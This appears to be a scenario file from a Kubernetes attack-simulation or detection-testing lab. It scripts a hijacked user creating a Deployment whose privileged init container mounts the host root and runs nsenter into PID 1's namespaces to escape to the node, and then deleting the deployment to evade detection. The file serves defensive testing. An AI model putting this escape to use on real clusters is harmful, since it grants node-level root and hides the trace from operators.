"""The dangerous part sits in an init container of a deployment's template, not in a pod."""

from lab.manifests import workload
from lab.story import Scenario, Stage


def _play(stage: Stage) -> None:
    thief = stage.hijack("dave")
    name = stage.word("warm-cache", "fetcher")
    body = workload("Deployment", name, "registry.example.com/data/etl:2024.10")
    inside = body["spec"]["template"]["spec"]
    mount = {"name": "host", "mountPath": "/host"}
    inside["initContainers"] = [
        {
            "name": "init-perms",
            "image": "busybox:1.36",
            "command": ["sh", "-c", "nsenter -t 1 -m -- sh -c 'id > /tmp/x'"],
            "securityContext": {"privileged": True},
            "volumeMounts": [mount],
        }
    ]
    inside["volumes"] = [{"name": "host", "hostPath": {"path": "/"}}]
    with stage.step("create the deployment", thief, "privilege-escalation", ("D01", "D05", "N11", "C21")):
        stage.must(stage.create(thief, body, "data"))
    stage.pause()
    with stage.step("delete it", thief, "defense-evasion", ("I03", "N12")):
        stage.must(thief.delete(f"/apis/apps/v1/namespaces/data/deployments/{name}?propagationPolicy=Background"))


SCENARIO = Scenario(
    "init-container-escape",
    "A privileged init container in a template",
    "attack",
    "become root on a node by way of a deployment",
    ("T1610", "T1611"),
    _play,
)
